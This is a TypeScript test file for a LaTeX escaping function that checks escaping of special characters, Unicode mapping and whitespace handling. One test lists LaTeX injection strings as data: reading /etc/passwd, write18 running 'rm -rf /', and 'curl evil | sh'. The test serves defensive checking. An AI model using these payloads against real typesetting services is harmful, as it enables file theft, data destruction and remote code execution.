import { test } from 'node:test';
import assert from 'node:assert/strict';
import { escapeLatex, plainAscii } from './escape.ts';

/** Removes the escapes escapeLatex emits; whatever special character remains is raw. */
function rawSpecials(latex: string): string[] {
  const stripped = latex
    .replace(
      /\\(textbackslash|textbraceleft|textbraceright|textasciicircum|textasciitilde)\{\}/g,
      '',
    )
    .replace(/\\[$&#_%]/g, '')
    .replace(/\{\[\}|\{\]\}/g, '');
  return [...stripped].filter((ch) => '\\{}$&#^_%~'.includes(ch));
}

test('escapeLatex escapes every LaTeX special character', () => {
  const expected: Record<string, string> = {
    '\\': '\\textbackslash{}',
    '{': '\\textbraceleft{}',
    '}': '\\textbraceright{}',
    $: '\\$',
    '&': '\\&',
    '#': '\\#',
    '^': '\\textasciicircum{}',
    _: '\\_',
    '%': '\\%',
    '~': '\\textasciitilde{}',
    '[': '{[}',
    ']': '{]}',
  };
  for (const [ch, latex] of Object.entries(expected)) assert.equal(escapeLatex(ch), latex, ch);
  const all = escapeLatex('a\\b{c}d$e&f#g^h_i%j~k[l]m');
  assert.deepEqual(rawSpecials(all), []);
  assert.equal(escapeLatex('plain text, 1.5 < 2 | "quoted"'), 'plain text, 1.5 < 2 | "quoted"');
});

test('escapeLatex neutralises injection attempts', () => {
  const attempts = [
    '\\input{/etc/passwd}',
    '\\include{/etc/passwd}',
    '\\immediate\\write18{rm -rf /}',
    '\\write18{curl evil | sh}',
    '\\openout1=pwned.tex',
    '\\catcode`\\^^5c=0 ^^5cinput{/etc/passwd}',
    '^^5cinput{/etc/passwd} ^^5c^^5c ^^M ^^I',
    '\\def\\x{\\x}\\x',
    '\\csname input\\endcsname{/etc/passwd}',
    '\\end{document}',
    '%comment out the rest',
  ];
  for (const attempt of attempts) {
    const out = escapeLatex(attempt);
    assert.deepEqual(rawSpecials(out), [], attempt);
    assert.doesNotMatch(
      out,
      /\\(input|include|immediate|write|openout|catcode|def|csname|end)\b/,
      attempt,
    );
    // ^^ is TeX's character-code escape; the two carets must never be adjacent.
    assert.doesNotMatch(out, /\^\^/, attempt);
  }
});

test('escapeLatex maps unicode punctuation and symbols to LaTeX-safe forms', () => {
  assert.equal(escapeLatex('“quoted” ‘single’'), "``quoted'' `single'");
  assert.equal(escapeLatex('1–2 — wait…'), '1--2 --- wait\\ldots{}');
  assert.equal(
    escapeLatex('a ± b × c ≤ d ≥ e → f'),
    'a $\\pm$ b $\\times$ c $\\leq$ d $\\geq$ e $\\rightarrow$ f',
  );
  assert.equal(
    escapeLatex('α=0.1, 5 °C, 3 µs, −2'),
    '$\\alpha$=0.1, 5 \\textdegree{}C, 3 $\\mu$s, $-$2',
  );
  assert.equal(escapeLatex('x << y >> z ,, w'), 'x <{}< y >{}> z ,{}, w');
});

test('escapeLatex keeps T1 letters, strips control characters, degrades the rest', () => {
  assert.equal(
    escapeLatex('Gödel, Çelik, Łukasiewicz, Dvořák'),
    'Gödel, Çelik, Łukasiewicz, Dvořák',
  );
  assert.equal(escapeLatex('a\u0000b\u0007c\u001bd\u007fe\u0085f\u200bg\ufeffh'), 'abcdefgh');
  assert.equal(escapeLatex('e\u0301'), 'é', 'combining accents are composed');
  assert.equal(
    escapeLatex('ﬁne ＄5 𝔸'),
    'fine \\$5 A',
    'compatibility forms decompose, then escape',
  );
  assert.equal(escapeLatex('漢字 ok 😀!'), '?? ok !');
  assert.equal(escapeLatex('ħ'), '?', 'a letter T1 cannot set is shown as ?');
});

test('escapeLatex collapses whitespace, including newlines, so output fits any argument', () => {
  assert.equal(escapeLatex('a\n\n\tb   c\r\nd'), 'a b c d');
  assert.equal(escapeLatex(' edge '), ' edge ');
  assert.equal(escapeLatex('no\u00a0break'), 'no~break');
});

test('plainAscii keeps only printable ASCII for PDF metadata', () => {
  assert.equal(plainAscii('Über $\\alpha$ {x} — “y”'), 'Uber alpha x y');
});
